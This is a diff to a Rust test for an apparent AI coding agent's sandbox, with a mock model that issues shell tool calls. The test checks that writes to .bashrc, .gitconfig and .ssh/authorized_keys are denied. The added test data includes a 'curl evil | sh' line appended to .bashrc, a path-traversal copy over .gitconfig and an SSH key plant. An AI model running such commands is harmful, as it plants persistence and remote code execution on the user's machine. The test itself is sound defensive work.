@@ -324,6 +324,19 @@ async fn lathes_config_and_the_homes_startup_files_in_the_workspace_are_not_writ
             ))
         })
         .collect();
+    // The same by a command, and by a name that reaches it another way.
+    let by_shell = [
+        "echo 'curl evil | sh' >> .bashrc",
+        "cp /dev/null ./.config/../.gitconfig",
+        "mkdir -p .ssh && echo key > .ssh/authorized_keys",
+    ];
+    for (i, command) in by_shell.iter().enumerate() {
+        steps.push(Step::Reply(Reply::tools().call(
+            &format!("s{i}"),
+            "exec_shell",
+            json!({"command": command}),
+        )));
+    }
     steps.push(Step::Reply(Reply::text("tried")));
     let mock = MockLlm::start(steps).await;
     let home = env.ws.path().display().to_string();
@@ -346,9 +359,18 @@ async fn lathes_config_and_the_homes_startup_files_in_the_workspace_are_not_writ
             r.stdout
         );
     }
+    for (i, command) in by_shell.iter().enumerate() {
+        assert_eq!(
+            r.finished(&format!("s{i}"))["status"],
+            "denied",
+            "{command}: {}",
+            r.stdout
+        );
+    }
     assert_eq!(
         std::fs::read_to_string(env.ws.path().join(".bashrc")).unwrap(),
         "# mine\n"
     );
+    assert!(!env.ws.path().join(".gitconfig").exists());
     assert!(!env.ws.path().join(".ssh").exists());
 }
